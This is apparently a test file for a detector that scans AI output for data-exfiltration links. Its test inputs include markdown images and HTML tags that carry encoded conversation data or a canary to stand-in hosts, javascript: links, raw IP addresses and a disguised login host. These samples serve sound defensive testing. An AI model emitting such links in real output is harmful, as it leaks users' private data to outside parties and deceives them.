import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { TextFinding } from '../types.ts';
import { textInput } from '../types.ts';
import { isRawAddress, isWithin, takeApart } from './address.ts';
import { exfiltrationCheck } from './index.ts';

const DEFAULTS = exfiltrationCheck.config.parse({});
const DATA = Buffer.from('the customer asked for a refund of 90 euros').toString('base64url');

function find(text: string, config: Record<string, unknown> = {}): readonly TextFinding[] {
  const input = textInput(text, { direction: 'output', context: { canaries: ['zebra-lamp-77'] } });
  const result = exfiltrationCheck.run(input, exfiltrationCheck.config.parse(config));
  if (result instanceof Promise) throw new Error('answers at once');
  return result.outcome === 'findings' ? result.findings : [];
}

describe('addresses', () => {
  it('are taken apart as clients do', () => {
    expect(takeApart('https://User:pw@Host.Example:8443/a/b?c=d#e')).toEqual({
      scheme: 'https',
      user: 'User:pw',
      host: 'host.example',
      path: '/a/b',
      query: 'c=d#e',
    });
    expect(takeApart('//cdn.example/x').host).toBe('cdn.example');
    expect(takeApart('java\nscript:alert(1)').scheme).toBe('javascript');
    expect(takeApart('/local/path').host).toBe('');
  });

  it('are within a domain only at a label border', () => {
    expect(isWithin('a.corp.example', ['corp.example'])).toBe(true);
    expect(isWithin('corp.example', ['*.corp.example'])).toBe(true);
    expect(isWithin('evilcorp.example', ['corp.example'])).toBe(false);
    expect(isWithin('corp.example.evil.example', ['corp.example'])).toBe(false);
    expect(isWithin('anything', [''])).toBe(false);
  });

  it.each(['203.0.113.7', '3405803783', '0xcb007107', '[2001:db8::1]'])('%s is a raw address', (host) => {
    expect(isRawAddress(host)).toBe(true);
  });
});

describe('findings', () => {
  it('span the address alone', () => {
    const text = `Here: ![x](https://t.example/p?d=${DATA}) done`;
    const [found] = find(text);
    expect(found && text.slice(found.start, found.end)).toBe(`https://t.example/p?d=${DATA}`);
    expect(found?.replacement).toBe('#removed-link');
  });

  it('see through entities in HTML', () => {
    expect(find('<a href="&#106;avascript:alert(1)">x</a>').some(({ kind }) => kind === 'script-link')).toBe(
      true,
    );
  });

  it.each([
    ['srcset', `<img srcset="https://t.example/p?d=${DATA} 2x">`],
    ['iframe', `<iframe src='https://t.example/${DATA}'></iframe>`],
    ['unquoted attribute', `<img src=https://t.example/${DATA} >`],
    ['CSS import', `<style>@import "https://t.example/${DATA}";</style>`],
    ['autolink', `<https://t.example/?d=${DATA}>`],
    ['protocol-relative', `![x](//t.example/?d=${DATA})`],
    [
      'sentence in a query',
      'https://t.example/?q=the+user+said+that+her+brother+lost+his+job+last+week+in+spring',
    ],
    ['mail address in a query', 'https://t.example/?m=ann.miller@corp.example'],
    ['canary spelled in hex', `https://t.example/${Buffer.from('zebra-lamp-77').toString('hex')}`],
    ['hidden host', '[bank](https://bank.example@evil.example/login)'],
  ])('%s', (_, text) => {
    expect(find(text).some(({ score }) => score >= 0.5)).toBe(true);
  });

  it('leave allowed domains alone, but never code', () => {
    const config = { allowedDomains: ['t.example'], blockOtherImages: true, blockOtherLinks: true };
    expect(find(`![x](https://t.example/?d=${DATA})`, config)).toEqual([]);
    expect(find('[x](javascript:alert(1))', config)).toHaveLength(1);
    expect(find('[x](https://other.example/)', config)[0]?.kind).toBe('outside-link');
  });

  it.each([
    'https://shop.example/item/7421-garden-chair-green?size=xl&utm_medium=mail&utm_content=spring_2026',
    'https://maps.example/@48.2082,16.3738,14z',
    'https://bucket.example/file.pdf?X-Amz-Signature=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
    '[spec](https://git.example/org/repo/blob/3f2a9c1e8b7d6f5a4c3b2a1908f7e6d5c4b3a291/README.md)',
    'See RFC 3986 (https://www.rfc.example/rfc/rfc3986), section 3.',
  ])('ordinary: %s', (text) => {
    expect(find(text).filter(({ score }) => score >= 0.5)).toEqual([]);
  });
});

describe('streaming', () => {
  const { streaming } = exfiltrationCheck;
  if (streaming.mode !== 'hold') throw new Error('holds');
  const hold = (text: string): number =>
    streaming.holdFrom(text, DEFAULTS, { ...textInput('').context, partial: true });

  const pieces = fc.array(
    fc.oneof(
      fc.constantFrom(
        `![a b](https://t.example/p?d=${DATA})`,
        `[a](https://t.example/(x)?d=${DATA})`,
        `<img alt="a < b" src="https://203.0.113.9/${DATA}">`,
        `\n[1]: https://t.example/?d=${DATA}\n`,
        '![a][1]',
        '[x](javascript:alert(1))',
        `https://t.example/?d=${DATA}`,
        '<div style="background:url(http://203.0.113.9/x.png)">',
        ' if (a[1] < b) c(); ',
        '\n',
        '! ',
      ),
      fc.string({ maxLength: 12 }),
    ),
    { maxLength: 6 },
  );

  it('never lets go of an address before it is whole, wherever the text is cut', () => {
    fc.assert(
      fc.property(pieces, fc.double({ min: 0, max: 1, noNaN: true }), (parts, share) => {
        const text = parts.join('');
        const cut = Math.floor(text.length * share);
        const held = hold(text.slice(0, cut));
        for (const found of find(text))
          if (found.end > cut) expect(Math.min(held, cut)).toBeLessThanOrEqual(Math.min(found.start, cut));
      }),
      { numRuns: 600 },
    );
  });

  it.each([
    `![a b](https://t.example/p?d=${DATA})`,
    `[a](https://t.example/(x)?d=${DATA})`,
    `<img alt="a b" src="https://203.0.113.9/${DATA}">`,
    `[1]: https://t.example/?d=${DATA}\n`,
    `url( "https://t.example/${DATA}")`,
  ])('holds a construct from its first character until its end: %s', (construct) => {
    const lead = 'Some text before it. ';
    const first = lead.length;
    for (let cut = first + 1; cut < lead.length + construct.length; cut += 1) {
      expect(hold((lead + construct).slice(0, cut))).toBeLessThanOrEqual(first);
    }
    expect(hold(`${lead}${construct} And on `)).toBeGreaterThan(first);
  });

  it('lets ordinary prose flow', () => {
    const text =
      'The first sentence is done. Item [3] of the list costs less than 5 euros, and this goes on ';
    expect(hold(text)).toBe(text.length);
  });
});
